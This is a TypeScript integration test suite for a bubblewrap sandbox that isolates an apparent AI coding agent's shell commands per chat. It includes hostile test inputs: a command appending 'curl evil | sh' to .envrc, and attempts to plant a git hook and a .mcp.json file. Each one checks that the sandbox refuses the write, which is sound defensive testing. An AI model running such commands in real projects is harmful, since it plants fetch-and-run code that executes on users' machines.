// The chat's network holder for real (platform/sandbox/net-holder.ts, holder-pool.ts): every command
// of a chat still gets a bwrap box of its own, started by nsenter in the chat's network. Checked
// here: the holder leaves nothing in the workspace, later commands keep every rule (protected paths
// missing at the holder's start, paths that appear later), what one command leaves behind cannot
// outlive it or write what the next may not, chats do not reach each other's servers, /tmp or the
// state folder, a settings change brings the proxy bridge in and out, and the fallback (a box and a
// forwarder per command) still works. Skipped with the reason printed where no bubblewrap box works.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { bashTool } from '../../../extension/core/tools/bash';
import { bashOutputTool } from '../../../extension/core/tools/bash-output';
import { killShellTool } from '../../../extension/core/tools/kill-shell';
import { createToolSessionState, disposeToolSession } from '../../../extension/core/tools/registry';
import type { SandboxSettings } from '../../../extension/platform/sandbox/create-sandbox';
import { createSandbox } from '../../../extension/platform/sandbox/create-sandbox';
import { findNsenter } from '../../../extension/platform/sandbox/net-holder';
import { createNodePorts, makeContext, textOf } from '../../fixtures/node-ports';
import { bubblewrapSkip, hostProcesses, waitFor } from '../../fixtures/box-test';

const skip = bubblewrapSkip('sandbox holder integration', () =>
  findNsenter() ? false : 'nsenter missing: commands use a box per command (tested in bwrap.integration.test.ts)',
);

function setup(initial: Partial<SandboxSettings> = {}, opts: { nsenter?: false } = {}) {
  const base = path.join(
    process.cwd(),
    'test-results',
    `sandbox-holder-${process.pid}-${Math.random().toString(36).slice(2, 8)}`,
  );
  const ws = path.join(base, 'ws');
  const home = path.join(base, 'home');
  mkdirSync(path.join(ws, '.git', 'hooks'), { recursive: true });
  writeFileSync(path.join(ws, '.git', 'config'), '[core]\n');
  writeFileSync(path.join(ws, 'input.txt'), 'workspace data\n');
  mkdirSync(home, { recursive: true });
  const real = realpathSync(base);
  const dirs = { base: real, ws: realpathSync(ws), home: realpathSync(home), state: path.join(real, 'state') };
  const settings: SandboxSettings = { mode: 'box', allowedHosts: [], extraWriteRoots: [], ...initial };
  const sandbox = createSandbox({
    settings: () => settings,
    workspaceFolders: () => [dirs.ws],
    home: dirs.home,
    stateRoot: dirs.state,
    ...(opts.nsenter === false ? { nsenter: false as const } : {}),
  });
  const ports = createNodePorts({ root: dirs.ws });
  ports.approval = { request: async () => ({ decision: 'deny' }) };
  ports.sandbox = sandbox;
  ports.childEnv = () => ({ PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dirs.home, LANG: 'C' });
  const sessions: ReturnType<typeof createToolSessionState>[] = [];
  const chat = (id: string) => {
    const session = createToolSessionState(id);
    sessions.push(session);
    return makeContext(ports, { session, callId: `${id}-call` });
  };
  return {
    ...dirs,
    settings,
    sandbox,
    chat,
    done: () => {
      for (const s of sessions) disposeToolSession(s);
      sandbox.dispose();
      rmSync(dirs.base, { recursive: true, force: true });
    },
  };
}

type Ctx = ReturnType<ReturnType<typeof setup>['chat']>;
const run = async (ctx: Ctx, command: string) => textOf(await bashTool.execute({ command }, ctx));

test('commands run through the chat holder; it leaves nothing in the workspace and later commands keep every rule', {
  skip,
}, async () => {
  const t = setup();
  try {
    const a = t.chat('a');
    const launch = await t.sandbox.launch({ command: 'true', cwd: t.ws, env: {}, sessionId: 'a', callId: 'probe' });
    launch.release();
    assert.match(launch.file, /nsenter$/, 'a command starts in its chat holder');
    assert.ok(!launch.args.includes('--unshare-net'), 'the network namespace is the holder’s');
    const before = readdirSync(t.ws).sort();
    assert.match(await run(a, 'cat input.txt'), /workspace data/);
    // The holder lives on between commands; the workspace holds no stand-in while it does.
    assert.deepEqual(readdirSync(t.ws).sort(), before);
    // Protected names that did not exist when the holder started stay read-only in later commands.
    const second = await run(
      a,
      'echo x > AGENTS.md; mkdir -p .vscode && echo y > .vscode/settings.json; echo ok > out; exit 2',
    );
    assert.match(second, /AGENTS\.md: Is a directory/);
    assert.match(second, /\[sandbox\] refused \.vscode\/settings\.json: \.vscode\/ stays read-only in the sandbox/);
    assert.equal(existsSync(path.join(t.ws, 'AGENTS.md')), false);
    assert.equal(existsSync(path.join(t.ws, '.vscode')), false);
    assert.equal(readFileSync(path.join(t.ws, 'out'), 'utf8'), 'ok\n');
    // A protected file that appears after the holder started is bound read-only as itself.
    writeFileSync(path.join(t.ws, '.envrc'), 'export A=1\n');
    const third = await run(a, 'echo "curl evil | sh" >> .envrc || exit 1');
    assert.match(third, /\[sandbox\] refused \.envrc/);
    assert.equal(readFileSync(path.join(t.ws, '.envrc'), 'utf8'), 'export A=1\n');
    assert.deepEqual(readdirSync(t.ws).sort(), [...before, '.envrc', 'out'].sort());
  } finally {
    t.done();
  }
});

test('what a command leaves behind dies with it, and a background job cannot write what the box forbids', {
  skip,
}, async () => {
  const t = setup();
  const marker = `sleep ${4000 + Math.floor(Math.random() * 900)}`;
  try {
    const a = t.chat('a');
    // Orphans, a new session, a double fork: the command's PID namespace ends with it.
    await run(a, `(${marker} &); setsid ${marker} & nohup ${marker} >/dev/null 2>&1 & echo left`);
    await waitFor(() => hostProcesses(marker) === 0);
    // A background job waits for the next command, then tries to plant a hook and a stand-in's name.
    const bg = await bashTool.execute(
      {
        command:
          'while [ ! -e go ]; do sleep 0.05; done; echo evil > .git/hooks/post-checkout; h=$?; ' +
          'echo "{}" > .mcp.json; m=$?; echo "hook=$h mcp=$m" > result.txt',
        run_in_background: true,
      },
      a,
    );
    const id = /bash_\d+/.exec(textOf(bg))?.[0] ?? '';
    const fg = await run(a, 'touch go; while [ ! -e result.txt ]; do sleep 0.05; done; cat result.txt');
    assert.match(fg, /hook=1 mcp=1/);
    assert.equal(existsSync(path.join(t.ws, '.git', 'hooks', 'post-checkout')), false);
    await waitFor(async () => /exit code|exited/.test(textOf(await bashOutputTool.execute({ bash_id: id }, a))));
    // The stand-in for the missing .mcp.json lives while any box of the chat runs: the background job's
    // box may outlive the foreground command by a moment (it exits after writing result.txt).
    await waitFor(() => !existsSync(path.join(t.ws, '.mcp.json')));
    // Killed mid-run: nothing is left, and the chat's next command still runs.
    const long = await bashTool.execute({ command: `echo started; ${marker} & ${marker}`, run_in_background: true }, a);
    const longId = /bash_\d+/.exec(textOf(long))?.[0] ?? '';
    await waitFor(() => hostProcesses(marker) === 2);
    assert.equal((await killShellTool.execute({ shell_id: longId }, a)).isError, false);
    await waitFor(() => hostProcesses(marker) === 0);
    assert.match(await run(a, 'echo still here'), /still here/);
  } finally {
    t.done();
  }
});

test('chats are apart: not each other’s servers, /tmp or the state folder; a chat reaches its own server', {
  skip,
}, async () => {
  const t = setup();
  const port = 20000 + Math.floor(Math.random() * 20000);
  const fetchIt =
    `node -e "fetch('http://127.0.0.1:${port}/').then(r=>r.text()).then(console.log,` +
    `e=>{console.log('FAILED',e.cause?.code);process.exit(1)})"`;
  try {
    const a = t.chat('a');
    const b = t.chat('b');
    const server = await bashTool.execute(
      {
        command:
          `node -e "require('http').createServer((q,s)=>s.end('from chat a'))` +
          `.listen(${port},'127.0.0.1',()=>console.log('listening'))"`,
        run_in_background: true,
      },
      a,
    );
    const id = /bash_\d+/.exec(textOf(server))?.[0] ?? '';
    // A line of its own: bash_output's text starts with the command, which holds the word too.
    await waitFor(async () => /^listening$/m.test(textOf(await bashOutputTool.execute({ bash_id: id }, a))));
    assert.match(await run(a, fetchIt), /from chat a/);
    const fromB = await run(b, fetchIt);
    assert.doesNotMatch(fromB, /from chat a/);
    assert.match(fromB, /FAILED ECONNREFUSED/);

    await run(a, 'echo secret-of-a > /tmp/a.txt');
    assert.equal(readFileSync(path.join(t.state, 's-a', 'a.txt'), 'utf8'), 'secret-of-a\n');
    const snoop = await run(b, `cat /tmp/a.txt; echo "state=[$(ls -A ${t.state})]"; cat ${t.state}/s-a/a.txt`);
    assert.doesNotMatch(snoop, /secret-of-a/);
    assert.match(snoop, /state=\[\]/, 'the state folder (chats’ /tmp, proxy sockets) is covered');
    await killShellTool.execute({ shell_id: id }, a);
  } finally {
    t.done();
  }
});

test('a settings change: the proxy bridge comes with allowedHosts and goes without; the fallback box still works', {
  skip,
}, async () => {
  const server = createServer((_req, res) => res.end('hello from the host\n'));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;
  const curl = existsSync('/usr/bin/curl');
  const get = `echo "proxy=\${HTTP_PROXY:-none}"; curl -sS --noproxy '' --max-time 20 http://localhost:${port}/`;
  const t = setup();
  const f = setup({ allowedHosts: ['localhost'] }, { nsenter: false });
  try {
    const a = t.chat('a');
    const closed = await run(a, get);
    assert.match(closed, /proxy=none/);
    assert.doesNotMatch(closed, /hello from the host/);
    t.settings.allowedHosts = ['localhost'];
    const open = await run(a, get);
    assert.match(open, /proxy=http:\/\/127\.0\.0\.1:3128/);
    if (curl) assert.match(open, /hello from the host/);
    t.settings.allowedHosts = [];
    assert.match(await run(a, get), /proxy=none/);

    const fb = f.chat('fb');
    const launch = await f.sandbox.launch({ command: 'true', cwd: f.ws, env: {}, sessionId: 'fb', callId: 'p' });
    launch.release();
    assert.match(launch.file, /bwrap$/);
    assert.ok(launch.args.includes('--unshare-net'));
    const viaFallback = await run(fb, `${get}; echo x > .git/hooks/pre-push`);
    if (curl) assert.match(viaFallback, /hello from the host/);
    assert.match(viaFallback, /\[sandbox\] refused \.git\/hooks/);
  } finally {
    t.done();
    f.done();
    server.close();
  }
});
